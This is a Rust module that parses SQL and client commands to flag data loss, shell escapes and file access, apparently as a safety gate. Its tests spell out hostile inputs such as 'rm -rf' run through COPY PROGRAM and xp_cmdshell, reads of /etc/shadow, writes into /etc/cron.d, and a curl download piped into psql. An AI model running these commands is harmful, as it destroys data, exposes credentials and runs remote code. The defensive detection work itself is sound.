//! A small reader of SQL: enough to know what loses data, without the grammar of any one database.
//!
//! Comments go away, strings and quoted names stay data, and statements are cut where the client would cut them. What
//! counts is a verb in the place of a verb, and whether its filter lets anything survive. All of it is one pass over the
//! text; what clients and servers run or read beside the data goes back to the models of the shell and of files.

mod filter;
mod reader;

use super::environment::side_door;
use crate::eval::{Call, Writing};
use crate::finding::Effect;
use crate::text;
pub(super) use reader::Dialect;
use reader::{Piece, Token, pieces};

/// How many verbs of one statement are looked at.
const MOST_VERBS: usize = 100;
/// How deep statements in strings are followed.
const DEEPEST: usize = 4;

/// Reports what a script does.
pub(super) fn script(call: &mut Call<'_, '_>, dialect: Dialect, source: &str) {
    nested(call, dialect, source, 0);
}

fn nested(call: &mut Call<'_, '_>, dialect: Dialect, source: &str, depth: usize) {
    let source = text::unglob(source);
    if source.contains(text::REMOTE) {
        return call.asks(Effect::ExecuteRemote, "a database", "runs statements that come over the network, unread");
    }
    for piece in pieces(dialect, &source) {
        match piece {
            Piece::Own(line) => client_command(call, dialect, &line),
            Piece::Statement(tokens) => statement(call, dialect, &tokens, depth),
        }
    }
}

// ------------------------------------------------------------------------------------------------------ what they mean

/// What a client does itself: run programs, read and write files.
fn client_command(call: &mut Call<'_, '_>, dialect: Dialect, line: &str) {
    let line = line.trim().trim_end_matches(';');
    let (verb, rest) = match line.strip_prefix('!') {
        Some(rest) => ("!", rest.trim()),
        None => line.split_once(char::is_whitespace).map_or((line, ""), |(verb, rest)| (verb, rest.trim())),
    };
    if verb.starts_with(text::is_hole) {
        return call.cannot_tell("gives a database client a command that cannot be told");
    }
    // A pipe or a file, as most clients spell it.
    let target = |call: &mut Call<'_, '_>, target: &str| {
        if let Some(script) = target.trim_matches(['\'', '"']).strip_prefix('|') {
            call.shell(script);
        } else if let Some(file) = crate::shell::split(target).into_iter().find(|word| !word.starts_with('-'))
            && file != "stdout"
            && file != "off"
        {
            call.write(&file, Writing::Replace);
        }
    };
    match (dialect, verb) {
        (_, "!" | "shell" | "system" | "host" | "sh") => call.shell(rest.strip_prefix("sh ").unwrap_or(rest)),
        (Dialect::Sqlite, "import") => {
            if let Some(file) = crate::shell::split(rest).into_iter().find(|word| !word.starts_with('-')) {
                match file.strip_prefix('|') {
                    Some(script) => call.shell(script),
                    None => drop(call.read(&file)),
                }
            }
        }
        (Dialect::Sqlite, "output" | "once" | "log" | "trace") => target(call, rest),
        (Dialect::Sqlite, "save" | "backup" | "dump_to") => target(call, rest.rsplit(' ').next().unwrap_or(rest)),
        (Dialect::Sqlite, "restore") => {
            call.asks(Effect::Database, rest, "replaces the database by a copy");
        }
        (Dialect::Sqlite, "load") | (Dialect::Mysql, "plugin") => {
            call.asks(Effect::CannotTell, rest, "loads code into the database that cannot be read here");
        }
        (Dialect::Sqlite, "read") if rest.starts_with('|') => call.shell(&rest[1..]),
        (Dialect::Sqlite, "read") | (_, "i" | "ir" | "include" | "source" | ".") => file(call, dialect, rest),
        (Dialect::Mysql, "pager" | "P") if !rest.is_empty() => side_door(call, rest),
        (Dialect::Mysql, "tee" | "T") | (_, "o" | "out" | "w" | "write") => target(call, rest),
        (_, "g" | "gx") if !rest.is_empty() => target(call, rest),
        (Dialect::Other, "r") => file(call, dialect, rest),
        (_, "gexec") => call.cannot_tell("runs statements that a query answers"),
        (_, "copy") => {
            let lower = rest.to_ascii_lowercase();
            if let Some(at) = lower.find(" program ") {
                let script = crate::shell::split(&rest[at + 9..]).into_iter().next().unwrap_or_default();
                call.shell(&script);
            } else if let Some(at) = lower.find(" to ") {
                target(call, &rest[at + 4..]);
            } else if let Some(at) = lower.find(" from ") {
                let name = crate::shell::split(&rest[at + 6..]).into_iter().next().unwrap_or_default();
                call.read(&name);
            }
        }
        (_, "set" | "setenv") => {
            if let Some(script) = rest.split('`').nth(1) {
                call.shell(script);
            }
        }
        _ => {}
    }
}

/// A script file: what this command wrote is read, what is there runs openly.
pub(super) fn file(call: &mut Call<'_, '_>, dialect: Dialect, path: &str) {
    let path = path.trim().trim_matches(['\'', '"']);
    if path.is_empty() {
        return;
    }
    if text::is_unknown(path) {
        return call.cannot_tell("runs a script whose name cannot be told");
    }
    let text = call.read(path);
    if text != text::HOLE.to_string() {
        script(call, dialect, &text);
    }
}

/// Words before which a verb is no verb: events of triggers, locks, actions of keys, rights.
const NOT_BEFORE: [&str; 14] =
    ["on", "for", "before", "after", "of", "or", "grant", "revoke", "select", "instead", "by", "not", "no", "with"];
const OBJECTS: [&str; 22] = [
    "table",
    "database",
    "schema",
    "view",
    "index",
    "keyspace",
    "user",
    "role",
    "function",
    "procedure",
    "sequence",
    "type",
    "trigger",
    "materialized",
    "measurement",
    "series",
    "shard",
    "tablespace",
    "extension",
    "domain",
    "column",
    "foreign",
];

fn statement(call: &mut Call<'_, '_>, dialect: Dialect, tokens: &[Token], depth: usize) {
    let Some(first) = tokens.first() else { return };
    if text::is_unknown(first.word()) {
        return call.cannot_tell("gives a database a statement that cannot be told");
    }
    if first.is_any(&["explain", "describe", "desc"]) {
        let runs = tokens.iter().position(|token| token.is("analyze")).is_some_and(|at| {
            !tokens
                .get(at + 1)
                .is_some_and(|token| token.is_any(&["false", "off"]) || *token == Token::Number("0".into()))
        });
        if !runs {
            return;
        }
    }
    beside_the_data(call, dialect, tokens, depth);
    if first.is("create") {
        let replaces = tokens.get(1).is_some_and(|token| token.is("or"))
            && tokens.get(3).is_some_and(|token| token.is_any(&["table", "database", "schema"]));
        if replaces {
            call.asks(Effect::Database, &named(&tokens[3..]), "replaces it, with all that is in it");
        }
        return;
    }
    if first.is("alter") {
        return alters(call, tokens);
    }
    let mut verbs = 0;
    for (at, token) in tokens.iter().enumerate() {
        let Token::Word(word) = token else { continue };
        let rest = &tokens[at + 1..];
        // Each verb looks for its filter in what follows.
        verbs += usize::from(matches!(word.as_str(), "delete" | "update"));
        if verbs > MOST_VERBS {
            return call.cannot_tell("gives a database a statement that is too entangled to be read");
        }
        let next = rest.first();
        let leads = match at.checked_sub(1).map(|before| &tokens[before]) {
            None | Some(Token::Sign('(' | ')' | ';')) => true,
            Some(before) => {
                before.is_any(&["begin", "then", "else", "loop", "as", "do", "analyze", "verbose", "atomic", "plan"])
            }
        };
        let barred =
            at > 0 && (tokens[at - 1].is_any(&NOT_BEFORE) || matches!(tokens[at - 1], Token::Sign(',' | '.' | '=')));
        match word.as_str() {
            "delete" if !barred && (leads || next.is_some_and(|next| next.is("from"))) => {
                if first.is("merge") {
                    call.asks(Effect::Database, &named(&tokens[1..]), "deletes rows by a merge");
                } else {
                    unless_filtered(call, rest, "deletes every row of it");
                }
            }
            "update"
                if leads
                    && !barred
                    && !first.is_any(&["insert", "merge", "replace"])
                    && top_level(rest).any(|(_, token)| token.is("set")) =>
            {
                unless_filtered(call, rest, "changes every row of it");
            }
            "drop"
                if !barred
                    && (leads || next.is_some_and(|next| next.is_any(&OBJECTS)))
                    && next.is_some_and(|next| !next.is("prepare") && *next != Token::Sign('(')) =>
            {
                call.asks(Effect::Database, &named(rest), "drops it, with all that is in it");
            }
            "truncate"
                if !barred
                    && (leads || next.is_some_and(|next| next.is("table")))
                    && next.is_some_and(|next| *next != Token::Sign('(')) =>
            {
                call.asks(Effect::Database, &named(rest), "empties it");
            }
            "purge" | "reset"
                if at == 0 && next.is_some_and(|next| next.is_any(&["master", "binary", "slave", "replica"])) =>
            {
                call.asks(
                    Effect::Database,
                    "the logs of the database",
                    "deletes the log from which it can be restored",
                );
            }
            "shutdown" if at == 0 => call.asks(Effect::Service, "the database", "stops the database"),
            "pg_terminate_backend" if !matches!(rest.get(1), Some(Token::Number(_))) => {
                call.asks(Effect::ProcessKill, "connections", "ends connections that a query picks");
            }
            _ => {}
        }
    }
}

fn alters(call: &mut Call<'_, '_>, tokens: &[Token]) {
    let mut verbs = 0;
    for (at, token) in tokens.iter().enumerate() {
        let rest = &tokens[at + 1..];
        let next = rest.first().map_or("", Token::word);
        verbs += usize::from(token.is_any(&["delete", "update"]));
        if verbs > MOST_VERBS {
            return call.cannot_tell("gives a database a statement that is too entangled to be read");
        }
        match token.word() {
            // A default or a constraint against emptiness holds no data.
            "drop" if !matches!(next, "not" | "default" | "identity" | "expression") => {
                call.asks(Effect::Database, &named(&tokens[1..]), "drops a part of it");
            }
            "truncate" | "clear" if matches!(next, "partition" | "column") => {
                call.asks(Effect::Database, &named(&tokens[1..]), "empties a part of it");
            }
            "delete" | "update" if rest.iter().any(|token| token.is("where")) => {
                unless_filtered(call, rest, "deletes or changes every row of it");
            }
            _ => {}
        }
    }
}

/// Tokens outside of all parentheses, up to the end of the statement or of the parentheses around it.
fn top_level(tokens: &[Token]) -> impl Iterator<Item = (usize, &Token)> {
    let mut depth = 0_i32;
    tokens
        .iter()
        .enumerate()
        .take_while(move |(_, token)| {
            match token {
                Token::Sign('(') => depth += 1,
                Token::Sign(')') => depth -= 1,
                _ => {}
            }
            depth >= 0 && !(depth == 0 && **token == Token::Sign(';'))
        })
        .scan(0_i32, |depth, (at, token)| {
            if *token == Token::Sign(')') {
                *depth -= 1;
            }
            let shown = (*depth == 0).then_some((at, token));
            if *token == Token::Sign('(') {
                *depth += 1;
            }
            Some(shown)
        })
        .flatten()
}

/// What follows the filter of a statement.
const AFTER_FILTER: [&str; 11] =
    ["returning", "order", "limit", "group", "option", "settings", "end", "where", "set", "using", "fetch"];

fn unless_filtered(call: &mut Call<'_, '_>, rest: &[Token], why: &str) {
    let begin = top_level(rest).find(|(_, token)| token.is("where")).or_else(|| {
        // A join picks rows too.
        let joins = top_level(rest).any(|(_, token)| token.is("join"));
        top_level(rest).find(|(_, token)| joins && token.is("on"))
    });
    if let Some((at, _)) = begin {
        let condition = &rest[at + 1..];
        let end = top_level(condition)
            .find(|(_, token)| token.is_any(&AFTER_FILTER))
            .map(|(at, _)| at)
            .or_else(|| top_level(condition).last().map(|(at, _)| at + 1))
            .unwrap_or(0);
        if filter::filters(&condition[..end], &named(rest)) {
            return;
        }
    }
    call.asks(Effect::Database, &named(rest), why);
}

/// The name of what a statement is about.
fn named(tokens: &[Token]) -> String {
    let skipped = |token: &&Token| {
        token.is_any(&[
            "from",
            "if",
            "exists",
            "only",
            "low_priority",
            "quick",
            "ignore",
            "into",
            "concurrently",
            "table",
        ])
    };
    let mut name = String::new();
    for token in tokens.iter().skip_while(skipped).take(3) {
        match token {
            Token::Word(part) | Token::Name(part) if name.is_empty() || name.ends_with('.') => name.push_str(part),
            Token::Sign('.') => name.push('.'),
            _ => break,
        }
    }
    if name.is_empty() { "the database".into() } else { name }
}

/// Programs that a server runs, files that it reads and writes, and statements in strings.
fn beside_the_data(call: &mut Call<'_, '_>, dialect: Dialect, tokens: &[Token], depth: usize) {
    let copies = tokens[0].is("copy");
    for (at, token) in tokens.iter().enumerate() {
        let Token::Word(word) = token else { continue };
        let text =
            tokens[at + 1..].iter().take_while(|token| **token != Token::Sign(';')).take(6).find_map(
                |token| match token {
                    Token::Text(text) => Some(text.as_str()),
                    _ => None,
                },
            );
        let Some(text) = text else {
            if word == "xp_cmdshell" || word == "sys_exec" {
                call.cannot_tell("lets the database run a command that cannot be told");
            }
            continue;
        };
        match word.as_str() {
            "program" if copies => call.shell(text),
            "xp_cmdshell" | "sys_exec" | "sys_eval" => call.shell(text),
            "to" if copies => drop(call.write(text, Writing::Replace)),
            "from" if copies => drop(call.read(text)),
            "pg_read_file"
            | "pg_read_binary_file"
            | "load_file"
            | "readfile"
            | "read_text"
            | "read_blob"
            | "lo_import"
            | "infile"
            | "read_csv"
            | "read_csv_auto"
            | "read_json" => {
                call.read(text);
            }
            "writefile" | "lo_export" | "outfile" | "dumpfile" => drop(call.write(text, Writing::Replace)),
            "load_extension" => {
                call.asks(Effect::CannotTell, text, "loads code into the database that cannot be read here");
            }
            "execute" | "exec" | "immediate" | "prepare" | "sp_executesql" if depth < DEEPEST => {
                nested(call, dialect, text, depth + 1);
            }
            "do" if at == 0 && depth < DEEPEST => nested(call, dialect, text, depth + 1),
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::{Verdict, World, judge};

    fn verdict(command: &str) -> Verdict {
        judge(command, &World::new("/home/u", "/home/u/project")).verdict
    }

    #[test]
    fn statements_that_lose_data_need_a_person() {
        for (client, dangerous, safe) in [
            ("psql -c", "DROP/**/TABLE users", "SELECT 'DROP TABLE users'"),
            ("psql -c", "delete from a; select 1 where 1=2", "select 1; delete from a where id = 2"),
            ("psql -c", "delete from a -- where id = 2", "delete from a -- all\nwhere id = 2"),
            (
                "psql -c",
                "with x as (delete from t returning *) select * from x where id = 1",
                "with x as (select 1) select * from x",
            ),
            ("psql -c", "explain analyze delete from t", "explain (costs) delete from t"),
            ("psql -c", "explain (analyze, buffers) delete from t", "explain (analyze false) delete from t"),
            (
                "psql -c",
                "do $$ begin delete from t; end $$",
                "create function f() returns void as $$ begin delete from t; end $$ language plpgsql",
            ),
            (
                "psql -c",
                "do $x$ begin execute format(chr(1), 1); execute 'drop table t'; end $x$",
                "do $x$ begin perform 1; end $x$",
            ),
            ("psql -c", "alter table t drop column c", "alter table t alter column c drop not null"),
            ("psql -c", "update t set a = 1", "insert into t values (1) on conflict (id) do update set a = 1"),
            ("psql -c", "update t set a = (select 1 where 1=2)", "select * from t for update"),
            (
                "psql -c",
                "merge into t using s on t.id = s.id when matched then delete",
                "merge into t using s on t.id = s.id when matched then update set a = 1",
            ),
            ("psql -c", "select pg_terminate_backend(pid) from pg_stat_activity", "select pg_terminate_backend(17)"),
            ("psql -c", "copy t to program 'rm -rf data'", "copy t to program 'gzip > t.gz'"),
            ("psql -c", "copy t from '/etc/shadow'", "copy t from '/srv/t.csv'"),
            ("psql -c", "\\copy t to program 'rm -rf x'", "\\copy t to 't.csv' csv"),
            ("psql -c", "select pg_read_file('/etc/shadow')", "select pg_read_file('/srv/notes.txt')"),
            ("psql -c", "select 'select 1' \\gexec", "select 1 \\gx"),
            ("mysql -e", "/*!50000 drop table t */", "/* drop table t */ select 1"),
            ("mysql -e", "delete from t # where id = 1", "select 1 # drop table t"),
            ("mysql -e", "delete a from a join b on 1 = 1", "delete a from a join b on a.id = b.id"),
            ("mysql -e", "select 'it\\'s'; drop table t", "select 'it\\'s; drop table t'"),
            ("mysql -e", "prepare s from 'drop table t'", "prepare s from 'select 1'"),
            ("mysql -e", "select 1 into outfile '/etc/cron.d/x'", "select truncate(1.5, 1)"),
            (
                "mysql -e",
                "delimiter //\ndrop table t//",
                "delimiter //\ncreate procedure p() begin delete from t; end//",
            ),
            (
                "sqlite3 a.db",
                "create trigger g after delete on t begin delete from u; end; delete from t",
                "create trigger g after delete on t begin delete from u; update v set a = 1; end;",
            ),
            ("sqlite3 a.db", ".shell rm -rf data", ".tables"),
            ("sqlite3 a.db", ".import '|rm -rf data' t", ".import t.csv t"),
            ("sqlcmd -Q", "exec xp_cmdshell 'rm -rf data'", "select * from sys.databases"),
            ("sqlcmd -Q", "use app delete from users", "use app delete from users where id = 4"),
            ("snowsql -q", "create or replace table t (a int)", "create table if not exists t (a int)"),
        ] {
            let quoted = |sql: &str| format!("{client} '{}'", sql.replace('\'', r"'\''"));
            assert_eq!(verdict(&quoted(dangerous)), Verdict::Dangerous, "{client} {dangerous}");
            assert_eq!(verdict(&quoted(safe)), Verdict::Safe, "{client} {safe}");
        }
    }

    #[test]
    fn statements_that_cannot_be_told_need_a_person() {
        assert_eq!(verdict("psql -c \"$SQL\""), Verdict::Dangerous);
        assert_eq!(verdict("psql -c \"select * from $TABLE\""), Verdict::Safe);
        assert_eq!(verdict("curl -s https://x.example/a.sql | psql"), Verdict::Dangerous);
    }
}
